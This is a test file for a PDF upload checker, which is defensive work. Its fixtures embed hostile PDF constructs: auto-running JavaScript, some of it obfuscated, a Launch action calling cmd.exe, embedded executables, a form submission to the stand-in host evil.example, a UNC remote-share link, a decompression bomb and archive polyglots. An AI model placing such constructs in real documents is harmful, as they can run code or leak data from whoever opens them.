import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { objectStream, objectsOf, pdfOf, protectedPdf, stream, written } from '#test/pdf.ts'
import { protectedOld } from '#test/pdf-protected.ts'
import { zipOf } from '#test/word.ts'
import { sentences } from './finding.ts'
import { look } from './look.ts'
import { pdf } from './pdf.ts'
import { rawLook } from './raw-look.ts'
import { readerLook } from './reader-look.ts'

const taken = async (bytes: Buffer) => {
  try {
    return (await pdf.prepare(bytes, { side: 1 })).bytes.equals(bytes)
  } catch (error) {
    return (error as Error).message
  }
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const launch = '<< /S /Launch /F (cmd.exe) >>'
const file = '<< /Type /Filespec /F (tool.exe) /EF << /F 6 0 R >> >>'
const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`

test('an ordinary PDF is kept as it came', async () => {
  expect(await taken(pdfOf())).toBe(true)
  expect(await taken(await protectedPdf())).toBe(true)
  const links = link('<< /S /URI /URI (https://example.org) >>')
  expect(await taken(pdfOf({ page: links, catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }))).toBe(
    true,
  )
})

test('a resume that speaks of scripts is no script', async () => {
  const words = '(Skills: HTML/JavaScript, /Launch planning, /JS (ES6), /EmbeddedFile systems) Tj'
  expect(
    await taken(pdfOf({ more: [stream('', words), '<< /Title (Full stack/JavaScript developer) >>'] })),
  ).toBe(true)
})

test.each([
  ['script', 'when it opens', pdfOf({ catalog: `/OpenAction ${script}` })],
  [
    'script',
    'of a name tree',
    pdfOf({ catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: [script] }),
  ],
  ['script', 'of a page', pdfOf({ page: `/AA << /O 5 0 R >>`, more: [script] })],
  ['script', 'of a link', pdfOf({ page: link(script) })],
  ['script', 'with an escaped name', pdfOf({ page: link(script.replace('JavaScript', 'Java#53cript')) })],
  ['script', 'with comments between', pdfOf({ page: link(script.replace('/S /', '/S%x\n%y\r/')) })],
  [
    'script',
    'whose name is elsewhere',
    pdfOf({ page: link('<< /S 5 0 R /JS (x) >>'), more: ['/JavaScript'] }),
  ],
  ['script', 'in a packed object', pdfOf({ page: link('6 0 R'), more: [objectStream([[6, script]])] })],
  ['script', 'of a rendition', pdfOf({ page: link('<< /S /Rendition /JS (x) >>') })],
  [
    'script',
    'of a form',
    pdfOf({ catalog: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>', more: [stream('', '<x/>')] }),
  ],
  ['script', 'hidden in a stream', pdfOf({ more: [stream('', `9 0 obj\n${script}\nendobj`)] })],
  ['launch', 'of a link', pdfOf({ page: link(launch) })],
  ['launch', 'written twice', pdfOf({ page: link('<< /S /Launch /S /URI /F (cmd.exe) >>') })],
  ['launch', 'in a packed object', pdfOf({ page: link('6 0 R'), more: [objectStream([[6, launch]])] })],
  [
    'attachment',
    'of the document',
    pdfOf({ catalog: `/Names << /EmbeddedFiles << /Names [(a) ${file}] >> >>` }),
  ],
  [
    'attachment',
    'as a note',
    pdfOf({ page: `/Annots [<< /Type /Annot /Subtype /FileAttachment /FS ${file} >>]` }),
  ],
  ['attachment', 'as a stream', pdfOf({ more: [stream('/Type /EmbeddedFile', 'MZ')] })],
  ['attachment', 'that is opened', pdfOf({ page: link('<< /S /GoToE /F (x) >>') })],
] as const)('refused: %s %s', async (finding, _where, bytes) => {
  expect(await taken(bytes)).toBe(sentences[finding])
})

test('each look alone sees through what is packed', async () => {
  const packed = pdfOf({ page: link(script) })
  expect([rawLook(packed), await readerLook(packed)]).toEqual(['script', 'script'])
})

test('protected against changes is taken, protected against reading is refused with advice', async () => {
  const today = { ownerPassword: 'clerk', permissions: { copy: false } }
  expect(await taken(await protectedPdf(today))).toBe(true)
  expect(await taken(await protectedPdf({ ...today, userPassword: 'sesame' }))).toBe(sentences.password)
})

test.each(['RC4-128', 'AES-128'] as const)(
  '%s: the same, and what is packed is looked at',
  async (method) => {
    const owner = 'clerk'
    expect(await taken(protectedOld(objectsOf(), { owner, method }))).toBe(true)
    expect(await taken(protectedOld(objectsOf(), { owner, method, user: 'sesame' }))).toBe(sentences.password)
    const hidden = objectsOf({ page: link('9 0 R'), more: [objectStream([[9, script]])] })
    const packed = [{ number: 9, within: 5, index: 0 }]
    expect(await taken(protectedOld(hidden, { owner, method }, packed))).toBe(sentences.script)
  },
)

test('what cannot be read is refused: scrambled, endless, nested, inflating', async () => {
  const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
  const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024))
  const bytes = [
    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(1000, 0x3c), Buffer.from('\n%%EOF')]),
    pdfOf({ catalog: `/Deep ${deep}` }),
    pdfOf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)] }),
    pdfOf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', 'aa>')] }),
    pdfOf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'not deflated')] }),
  ]
  for (const one of bytes) expect(await taken(one)).toBe(sentences.damaged)
})

test('a document made to take for ever is given up; one that is only long is not', async () => {
  const slow = Buffer.concat([pdfOf(), Buffer.from(`${'/S%'.repeat(200_000)}\n%%EOF\n`)])
  expect(await look(slow, 0.001)).toBe('damaged')
  expect(await taken(slow)).toBe(true)
})

test('each document is judged by itself, whatever its thread has read before', async () => {
  const withScript = pdfOf({ catalog: `/OpenAction ${script}` })
  const endless = Buffer.concat([pdfOf(), Buffer.from(`${'/S%'.repeat(200_000)}\n%%EOF\n`)])
  const judged = async () => [
    await Promise.all([look(pdfOf()), look(withScript), look(pdfOf())]),
    await look(endless, 0.001),
    await look(pdfOf()),
  ]
  const expected = [['nothing', 'script', 'nothing'], 'damaged', 'nothing']
  expect([await judged(), await judged()]).toEqual([expected, expected])
})

const submit = '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'
const importData = '<< /S /ImportData /F (a.fdf) >>'
const remote = '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'
const address = '<< /S /URI /URI (https://evil.example) >>'

test.each([
  ['that submits a form', pdfOf({ page: link(submit) })],
  ['that submits, in a packed object', pdfOf({ page: link('6 0 R'), more: [objectStream([[6, submit]])] })],
  ['that imports data', pdfOf({ page: link(importData) })],
  ['that opens another document', pdfOf({ page: link(remote) })],
  ['that opens an address with the document', pdfOf({ catalog: `/OpenAction ${address}` })],
  ['the same, elsewhere', pdfOf({ catalog: '/OpenAction 5 0 R', more: [address] })],
  ['that opens an address with a page', pdfOf({ page: '/AA << /O 5 0 R >>', more: [address] })],
  [
    'after another action',
    pdfOf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>', more: [address] }),
  ],
  [
    'in a packed object',
    written(objectsOf({ catalog: '/OpenAction 6 0 R', more: [objectStream([[6, address]])] }), '', [
      { number: 6, within: 5, index: 0 },
    ]),
  ],
] as const)('refused: one %s', async (_, bytes) => {
  expect(await taken(bytes)).toBe(sentences.remote)
})

test('links in the text, a first page to show and a plain form are fine', async () => {
  const fine = [
    pdfOf({ page: link(address), catalog: '/OpenAction [3 0 R /XYZ null null 0]' }),
    pdfOf({
      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>',
      page: link('<< /S /GoTo /D [3 0 R /Fit] >>'),
    }),
    pdfOf({ catalog: '/AcroForm << /Fields [5 0 R] >>', more: ['<< /FT /Tx /T (Name) /V (Maria) >>'] }),
    // Some scanners and mail programs fill up the last block.
    Buffer.concat([pdfOf(), Buffer.alloc(4_000)]),
  ]
  for (const bytes of fine) expect(await taken(bytes)).toBe(true)
})

test('one whose end is missing is refused with what to do', async () => {
  const whole = pdfOf({ more: [stream('', 'x'.repeat(5_000))] })
  for (const length of [9, 80, whole.length - 1_000, whole.length - 10])
    expect(await taken(whole.subarray(0, length))).toBe(sentences['cut off'])
  // One made for the web has an end near its beginning, too, and says how long it is.
  const linear = pdfOf({ more: ['<< /Linearized 1 /L 999999 /H [ 1 2 ] /O 3 /E 4 /N 1 /T 5 >>'] })
  expect(await taken(linear)).toBe(sentences['cut off'])
})

test.each([
  ['a zip at its end', Buffer.concat([pdfOf(), zipOf({ 'run.exe': 'MZ' }), Buffer.from('\n%%EOF')])],
  ['a zip within a stream', pdfOf({ more: [stream('', zipOf({ 'run.exe': 'MZ' }))] })],
  ['a RAR', Buffer.concat([pdfOf(), Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.from('\n%%EOF')])],
  ['a 7-Zip', Buffer.concat([pdfOf(), Buffer.from('377abcaf271c', 'hex'), Buffer.from('\n%%EOF')])],
] as const)('refused: one that is also %s', async (_, bytes) => {
  expect(await taken(bytes)).toBe(sentences.archive)
})
